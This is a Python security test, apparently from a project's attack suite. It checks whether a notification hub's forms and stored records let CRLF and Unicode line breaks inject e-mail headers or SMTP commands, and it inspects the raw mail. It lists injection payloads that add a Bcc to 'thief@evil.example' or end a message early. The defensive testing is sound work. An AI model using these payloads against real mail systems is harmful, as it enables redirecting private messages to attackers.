"""Lines slipped into e-mails: names, addresses and organisations with line breaks; the raw mail is looked at."""

from email import message_from_bytes
from email.policy import default
from typing import Final

from sqlalchemy import update

from attack.browsing import Browser, client
from attack.on_people import link_to
from attack.staging import Scene
from attack.telling import Report
from hub.core.clock import utc_now
from hub.core.ids import new_ref
from hub.directory.models import Organisation
from hub.notify.outbox import Wanted, raise_alerts

HEADERS: Final = frozenset({
    "date", "from", "to", "subject", "message-id", "auto-submitted", "x-auto-response-suppress", "x-hub-delivery",
    "mime-version", "content-type", "content-transfer-encoding",
})  # fmt: skip
SLIPPED: Final = (
    "Sam\r\nBcc: thief@evil.example",
    "Sam\nBcc: thief@evil.example",
    "Sam\rBcc: thief@evil.example",
    "Sam\u2028Bcc: thief@evil.example",
    "Sam\x0bBcc: thief@evil.example",
    "Sam\x85Bcc: thief@evil.example",
    "Sam\0",
    "Sam\r\n\r\n<script>alert(1)</script>",
    "Sam\r\n.\r\nMAIL FROM:<thief@evil.example>",
)
"""Names that would begin a header, a body or another message, were they written as they stand."""
_THIEF: Final = b"thief@evil.example"


def attack(report: Report, scene: Scene, admin: Browser) -> None:
    """Type the lines; put them where no check stands between; look at every message that came."""
    report.section(
        "Lines slipped into e-mails", "A name that ends its line and begins another header, or another message."
    )
    operator, leeds = (client(scene.url, scene.cast.tokens[name]) for name in ("operator", "leeds"))
    invite = {"email": "crlf@leeds.example", "roles": ["duty_desk"]}
    fresh = iter(range(100))
    point = {"role": "duty_desk", "channel": "email", "purpose": "Attack"}
    own = scene.cast.refs["leeds"]
    _typed(
        report,
        "the name of somebody invited",
        admin,
        "/invitations",
        lambda said: invite | {"name": said, "email": f"crlf{next(fresh)}@leeds.example"},
    )
    _typed(report, "the address of somebody invited", admin, "/invitations",
           lambda said: invite | {"name": "Sam", "email": said.replace("Sam", "sam@leeds.example")})  # fmt: skip
    _typed(
        report,
        "the name of an organisation",
        operator,
        "/organisations",
        lambda said: {"kind": "other_body", "name": said},
    )
    _typed(report, "the address of a desk", leeds, f"/organisations/{own}/contact-points",
           lambda said: point | {"address": said.replace("Sam", "sam@leeds.example")})  # fmt: skip
    _typed(report, "the name of a system", leeds, "/clients", lambda said: {"name": said, "scopes": ["read"]})
    _beyond_the_checks(report, scene, admin)
    _raw_mail(report, scene)


def _typed(report: Report, what: str, who: Browser, path: str, body: object) -> None:
    taken = []
    for said in SLIPPED:
        answer = who.ask("POST", f"/api/v1{path}", json=body(said))  # type: ignore[operator]
        kept = answer.json() if answer.status_code < 400 else {}
        if not all(str(kept.get(name, "")).isprintable() for name in ("name", "email", "address")):
            taken.append(repr(said))
    report.many(f"type a line break into {what}", "refused, or kept as one line", taken, tried=len(SLIPPED))


def _beyond_the_checks(report: Report, scene: Scene, admin: Browser) -> None:
    """As if a check had failed: an organisation's name with lines in it stands in the database, and mail is written."""
    evil = "Leeds\r\nBcc: thief@evil.example\r\n\r\n.\r\nMAIL FROM:<thief@evil.example>\r\n"
    with scene.database.write() as session:
        named = update(Organisation).where(Organisation.id == scene.cast.ids["leeds"])
        session.execute(named.values(name=evil), execution_options={"synchronize_session": False})
        wanted = Wanted("obligation.overdue", scene.cast.ids["leeds"], "team_manager", new_ref("obl"), is_urgent=True)
        raise_alerts(session, [wanted], rules=scene.rules, now=utc_now())
    body = {"name": "Lin Fictitious", "email": "lines@leeds.example", "roles": ["duty_desk"]}
    admin.ask("POST", "/api/v1/invitations", json=body)
    link = link_to(scene, "lines@leeds.example")
    report.attempt(
        "put them past the check, into the database",
        f"the message comes whole, with its link {link[:16]}…",
        refused=True,
    )


def _raw_mail(report: Report, scene: Scene) -> None:
    """Every message that came since the beginning, byte by byte."""
    messages = list(scene.mail.messages)
    strange = sorted({name for _, raw in messages for name in _names(raw) if name.lower() not in HEADERS})
    twice = [str(number) for number, (_, raw) in enumerate(messages) if len(_names(raw)) != len(set(_names(raw)))]
    stolen = [str(number) for number, (to, _) in enumerate(messages) if any("evil" in each for each in to)]
    headed = [str(number) for number, (_, raw) in enumerate(messages) if _THIEF in raw.partition(b"\r\n\r\n")[0]]
    bare = [
        str(number)
        for number, (_, raw) in enumerate(messages)
        if b"\r\n.\r\n" in raw or raw.replace(b"\r\n", b"").count(b"\r")
    ]
    tried = len(messages)
    report.many("add a header", "only those that the hub writes are there", strange, tried=tried)
    report.many("write a header twice", "each once", twice, tried=tried)
    report.many("have a message sent to somebody else", "one recipient each, ours", stolen + headed, tried=tried)
    report.many("end a message early", "no line ends one", bare, tried=tried)


def _names(raw: bytes) -> list[str]:
    return list(message_from_bytes(raw, policy=default).keys())
